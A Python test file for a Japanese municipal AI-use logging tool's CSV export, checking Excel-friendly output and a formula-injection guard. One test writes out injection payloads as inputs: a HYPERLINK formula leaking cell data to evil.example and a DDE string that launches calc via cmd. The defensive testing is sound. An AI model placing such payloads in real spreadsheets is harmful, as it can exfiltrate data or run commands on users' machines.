"""`anshin export`: one row per session for Excel, UTF-8 with BOM, Japanese headers, and no
user text that Excel would run as a formula."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

from records_helpers import AUTHOR, declared, full_session

from anshin.export import export_sessions_csv, guard_cell
from anshin.records_texts import CSV_COLUMNS

ROOT = Path(__file__).resolve().parents[2]
HEADERS = ["セッションID", "作成日時", "作成者", "所属", "利用区分", "利用目的", "活用方法", "状態",
           "入力停止回数", "検出件数", "サービス", "レビュー数", "決定", "決定者", "決定日時"]


class _App:
    def __init__(self, rig) -> None:
        self.store, self.policy = rig.store, rig.policy


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_csv_has_a_bom_japanese_headers_and_one_row_per_session(rig):
    decided = full_session(rig)
    draft = declared(rig)
    out = io.StringIO()
    count = export_sessions_csv(_App(rig), out, bom=True)
    text = out.getvalue()
    assert text.startswith("\ufeff")
    rows = _rows(text)
    assert count == 2 and len(rows) == 3
    assert rows[0] == HEADERS == list(CSV_COLUMNS)
    by_id = {r[0]: dict(zip(HEADERS, r, strict=True)) for r in rows[1:]}
    done = by_id[decided.session_id]
    assert done["作成者"] == "山田 花子（yamada）" and done["所属"] == "市民課"
    assert done["利用区分"] == "(1) 要約・翻訳・平易な表現への書き換え"
    assert done["状態"] == "決定済み" and done["決定"] == "修正して採用"
    assert done["入力停止回数"] == "1" and done["レビュー数"] == "2"
    assert done["決定者"] == "加藤 恵子（kato）" and done["決定日時"].endswith("JST")
    assert by_id[draft.session_id]["状態"] == "利用目的を登録済み"
    assert by_id[draft.session_id]["決定"] == ""


def test_cells_that_excel_would_run_as_formulas_get_a_leading_apostrophe(rig):
    view = rig.engine.start_session(AUTHOR)
    rig.engine.declare_purpose(view.session_id, AUTHOR, category="summarize",
                               purpose='=HYPERLINK("http://evil.example/?"&A1,"詳細")',
                               intended_use="+1+cmd|' /C calc'!A0")
    out = io.StringIO()
    export_sessions_csv(_App(rig), out, bom=False)
    row = dict(zip(HEADERS, _rows(out.getvalue())[1], strict=True))
    assert row["利用目的"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")"
    assert row["活用方法"] == "'+1+cmd|' /C calc'!A0"
    for dangerous in ("=1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1"):
        assert guard_cell(dangerous) == "'" + dangerous
    assert guard_cell("市報の要約") == "市報の要約"
    assert guard_cell(3) == "3"


def test_anshin_export_writes_the_bom_to_stdout_and_files(rig, tmp_path):
    full_session(rig)
    rig.store.dispose()
    env = {**os.environ,
           "ANSHIN_HOME": str(rig.root),
           "ANSHIN_DATABASE_URL": f"sqlite:///{rig.db_path}",
           "ANSHIN_ARCHIVE": str(rig.archive),
           "ANSHIN_CHAIN_HEAD": str(rig.head_path),
           "ANSHIN_POLICY": str(ROOT / "policy" / "niiza.toml"),
           "ANSHIN_STAFF": str(ROOT / "policy" / "staff.csv"),
           "ANSHIN_SERVICES": str(rig.root / "services.toml")}
    done = subprocess.run([sys.executable, "-m", "anshin.cli", "export"], env=env,
                          capture_output=True, timeout=120)
    assert done.returncode == 0, done.stderr.decode()
    assert done.stdout.startswith("\ufeff".encode())
    assert _rows(done.stdout.decode("utf-8"))[0] == HEADERS
    target = tmp_path / "sessions.csv"
    done = subprocess.run([sys.executable, "-m", "anshin.cli", "export", "-o", str(target)],
                          env=env, capture_output=True, timeout=120)
    assert done.returncode == 0, done.stderr.decode()
    data = target.read_bytes()
    assert data.startswith("\ufeff".encode()) and not data.startswith(("\ufeff" * 2).encode())
    assert len(_rows(data.decode("utf-8"))) == 2
